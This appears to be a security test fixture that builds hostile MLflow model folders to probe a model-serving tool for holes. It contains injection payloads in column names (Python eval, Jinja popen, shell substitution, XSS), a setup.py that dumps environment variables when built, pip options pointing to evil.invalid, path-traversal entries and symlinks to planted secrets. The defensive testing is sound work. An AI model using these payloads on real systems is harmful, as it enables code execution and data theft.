"""A corpus of crafted MLflow models on a real NAS folder (issue 9): each tries to run code or
read a file outside its model folder.

Every model is a copy of a real model logged by a training script, edited the way a
hostile model author could: requirements that make pip build an sdist, paths and symlinks
out of the model folder, forged ids, markup and code in names and columns. Files with
unique content markers are planted OUTSIDE the model folders (and outside the NAS root),
and the crafted source package writes a canary file when anything builds it: a test that
finds a marker in an output, or the canary on disk, has found a hole.
"""
from __future__ import annotations

import io
import json
import os
import shutil
import tarfile
import textwrap
import uuid
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import yaml

EXPERIMENT_ID = "1"
IRIS = ["sepal length (cm)", "sepal width (cm)", "petal length (cm)", "petal width (cm)"]
# Column names a model author controls: quotes, code, template syntax, markup, newlines.
HOSTILE_COLUMNS = [
    'quote"double',
    "quote'single",
    "__import__('pathlib').Path('{canary}/column-eval').write_text('ran')",
    "{{ cycler.__init__.__globals__.os.popen('touch {canary}/column-jinja') }}",
    "[/x][link=https://evil.invalid]click[/link][bold]",
    "line\nbreak\r\nand\ttab",
    "$(touch {canary}/column-shell)`touch {canary}/column-backtick`",
    "</script><script>alert(1)</script>",
]
MARKUP_NAME = "[/x][link=https://evil.invalid]x[/link]"


@dataclass
class HostileModel:
    case: str
    run_id: str
    expect: str  # "refused" (exit 2), "not_found" (exit 3) or "inert" (exit 0)
    says: str = ""  # what the error must name (the line, the MLmodel field, ...)
    model_dir: Path | None = None
    builds: tuple[str, ...] = ()  # CLI build commands worth running when it resolves


@dataclass
class Corpus:
    nas: Path
    experiment_id: str
    outside: Path  # planted files with markers: nothing here may be read
    canary: Path  # the crafted code writes here if it ever runs
    markers: list[str]
    models: list[HostileModel] = field(default_factory=list)
    sdist: Path | None = None

    def by_case(self, case: str) -> HostileModel:
        return next(m for m in self.models if m.case == case)


def make_sdist(folder: Path, canary: Path) -> Path:
    """somepkg-1.0.tar.gz whose setup.py writes a canary file: building it runs model-author code."""
    setup_py = textwrap.dedent(f"""\
        import pathlib, os
        pathlib.Path({str(canary)!r}).mkdir(parents=True, exist_ok=True)
        pathlib.Path({str(canary)!r}, "setup-py-ran-%d" % os.getpid()).write_text(repr(dict(os.environ)))
        from setuptools import setup
        setup(name="somepkg", version="1.0", py_modules=[])
        """)
    files = {
        "somepkg-1.0/setup.py": setup_py,
        "somepkg-1.0/PKG-INFO": "Metadata-Version: 2.1\nName: somepkg\nVersion: 1.0\n",
    }
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "somepkg-1.0.tar.gz"
    with tarfile.open(path, "w:gz") as tar:
        for name, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    src = folder / "somepkg"
    (src).mkdir(exist_ok=True)
    (src / "setup.py").write_text(setup_py)
    return path


def _plant_outside(outside: Path, source: Path) -> list[str]:
    """Files outside every model folder, each holding a unique marker. Returns the markers."""
    tag = uuid.uuid4().hex[:12]
    markers = [f"HMTC{tag}OUTSIDE{i}" for i in range(6)]
    outside.mkdir(parents=True)
    (outside / "secret.json").write_text(json.dumps({"columns": IRIS, "data": [[markers[0], 1.0, 1.0, 1.0]]}))
    (outside / "secret.txt").write_text(f"password={markers[1]}\n")
    (outside / "python_env.yaml").write_text(f"python: 3.11.7\nnote: {markers[2]}\n")
    (outside / "model.skops").write_bytes(markers[3].encode() * 64)
    (outside / "dir").mkdir()
    (outside / "dir" / "data.bin").write_text(markers[4])
    mlmodel = yaml.safe_load((source / "MLmodel").read_text())
    mlmodel["run_id"] = "0" * 32
    mlmodel["note"] = markers[5]
    (outside / "MLmodel").write_text(yaml.safe_dump(mlmodel))
    return markers


def build_corpus(source: Path, root: Path, source_model_id: str) -> Corpus:
    """Write the corpus under root: root/nas (the NAS), root/outside (markers), root/canary.

    ``source`` is the artifacts folder of a real logged model (MLflow 3 layout)."""
    nas, outside, canary = root / "nas", root / "outside", root / "canary"
    markers = _plant_outside(outside, source)
    corpus = Corpus(nas=nas, experiment_id=EXPERIMENT_ID, outside=outside, canary=canary, markers=markers)
    corpus.sdist = make_sdist(nas / "pkgs", canary)
    simple = nas / "simple" / "somepkg"
    simple.mkdir(parents=True)
    (simple / "index.html").write_text(f'<a href="{corpus.sdist.as_uri()}">somepkg-1.0.tar.gz</a>\n')

    def add(case: str, expect: str, says: str, edit: Callable[[Path, dict], None], builds: tuple[str, ...] = ()):
        run_id, model_id = uuid.uuid4().hex, f"m-{uuid.uuid4().hex}"
        folder = nas / EXPERIMENT_ID / "models" / model_id / "artifacts"
        shutil.copytree(source, folder, symlinks=True)
        (folder.parent / "meta.yaml").write_text(yaml.safe_dump({"name": "model", "model_id": model_id}))
        mlmodel = yaml.safe_load((folder / "MLmodel").read_text())
        mlmodel.update(run_id=run_id, model_id=model_id, model_uuid=model_id, artifact_path=folder.as_uri())
        edit(folder, mlmodel)
        if not (folder / "MLmodel").is_symlink():
            (folder / "MLmodel").write_text(yaml.safe_dump(mlmodel, sort_keys=False))
        corpus.models.append(HostileModel(case, run_id, expect, says, folder, builds))

    def requirement(line: str) -> Callable[[Path, dict], None]:
        def edit(folder: Path, mlmodel: dict) -> None:
            with (folder / "requirements.txt").open("a") as handle:
                handle.write("\n" + line + "\n")
        return edit

    def up(folder: Path) -> str:
        """The relative path from a model folder to the outside folder, through '..'."""
        return os.path.relpath(outside, folder)

    # 1. requirements that make pip fetch or build something other than an index wheel
    add("req-direct-reference", "refused", "direct reference", requirement(f"somepkg @ {corpus.sdist.as_uri()}"),
        ("bento-build",))
    add("req-path", "refused", "path or URL", requirement(str(corpus.sdist)))
    add("req-vcs", "refused", "VCS URL", requirement(f"git+file://{nas}/somepkg.git#egg=somepkg"))
    add("req-editable", "refused", "editable", requirement(f"-e {nas}/pkgs/somepkg"))
    add("req-extra-index", "refused", "pip option", requirement(f"--extra-index-url {(nas / 'simple').as_uri()}"))
    add("req-find-links", "refused", "pip option", requirement(f"--find-links {nas}/pkgs"))
    add("req-index-url", "refused", "pip option", requirement("-i https://evil.invalid/simple"))

    # 2. files named by the MLmodel, and symlinks, that lead out of the model folder
    def example_at(path_of: Callable[[Path], str], key: str = "artifact_path"):
        def edit(folder: Path, mlmodel: dict) -> None:
            mlmodel["saved_input_example_info"][key] = path_of(folder)
        return edit

    add("example-dotdot", "refused", "saved_input_example_info.artifact_path",
        example_at(lambda f: f"{up(f)}/secret.json"))
    add("example-absolute", "refused", "saved_input_example_info.artifact_path",
        example_at(lambda f: str(outside / "secret.json")))
    add("serving-input-dotdot", "refused", "saved_input_example_info.serving_input_path",
        example_at(lambda f: f"{up(f)}/secret.json", "serving_input_path"))

    def symlink_file(folder: Path, mlmodel: dict) -> None:
        (folder / "input_example.json").unlink()
        (folder / "input_example.json").symlink_to(outside / "secret.json")

    def symlink_dir(folder: Path, mlmodel: dict) -> None:
        (folder / "extra").symlink_to(outside / "dir", target_is_directory=True)

    def symlink_mlmodel(folder: Path, mlmodel: dict) -> None:
        (folder / "MLmodel").unlink()
        (folder / "MLmodel").symlink_to(outside / "MLmodel")

    add("symlink-file-out", "refused", "symlink", symlink_file)
    add("symlink-dir-out", "refused", "symlink", symlink_dir)
    add("symlink-mlmodel", "not_found", "has no model", symlink_mlmodel)

    def flavor_path(folder: Path, mlmodel: dict) -> None:
        mlmodel["flavors"]["python_function"]["model_path"] = f"{up(folder)}/model.skops"
        mlmodel["flavors"]["sklearn"]["pickled_model"] = f"{up(folder)}/model.skops"

    def env_file(folder: Path, mlmodel: dict) -> None:
        mlmodel["flavors"]["python_function"]["env"]["virtualenv"] = str(outside / "python_env.yaml")

    add("flavor-model-path-out", "refused", "flavors.python_function.model_path", flavor_path)
    add("env-file-out", "refused", "flavors.python_function.env.virtualenv", env_file)

    # 3. ids read from files
    def model_id(value: str) -> Callable[[Path, dict], None]:
        def edit(folder: Path, mlmodel: dict) -> None:
            mlmodel["model_id"] = value
        return edit

    add("model-id-dotdot", "refused", "model_id", model_id(".."))
    add("model-id-dot", "refused", "model_id", model_id("."))
    add("model-id-of-another-model", "refused", "does not match its folder", model_id(source_model_id))

    # MLflow 2 layout: <exp>/<run_id>/artifacts/model/MLmodel, with a run_id that is a path
    legacy_run = uuid.uuid4().hex
    legacy = nas / EXPERIMENT_ID / legacy_run / "artifacts" / "model"
    shutil.copytree(source, legacy)
    legacy_mlmodel = yaml.safe_load((legacy / "MLmodel").read_text())
    legacy_mlmodel.update(run_id="../../../x", model_id=None)
    (legacy / "MLmodel").write_text(yaml.safe_dump(legacy_mlmodel))
    corpus.models.append(HostileModel("run-id-path", legacy_run, "refused", "run_id", legacy))

    # 4. values that are markup or code: inert (printed literally, never evaluated)
    def markup_names(folder: Path, mlmodel: dict) -> None:
        (folder.parent / "meta.yaml").write_text(yaml.safe_dump({"name": MARKUP_NAME}))
        mlmodel["flavors"]["python_function"]["python_version"] = "3.11; [/x]"

    def columns(names: list[str]) -> Callable[[Path, dict], None]:
        def edit(folder: Path, mlmodel: dict) -> None:
            mlmodel["signature"]["inputs"] = json.dumps([{"type": "double", "name": n, "required": True} for n in names])
            example = {"columns": names, "data": [[float(i % 7) for i in range(len(names))]]}
            (folder / "input_example.json").write_text(json.dumps(example))
            (folder / "serving_input_example.json").write_text(json.dumps({"dataframe_split": example}))
        return edit

    add("markup-names", "inert", "", markup_names)
    hostile = [c.replace("{canary}", str(canary)) for c in HOSTILE_COLUMNS]
    add("hostile-columns", "inert", "", columns(hostile), ("fastapi-build", "bento-build"))
    add("wide-10000-columns", "inert", "", columns([f"c{i}" for i in range(10_000)]), ("fastapi-build",))
    return corpus
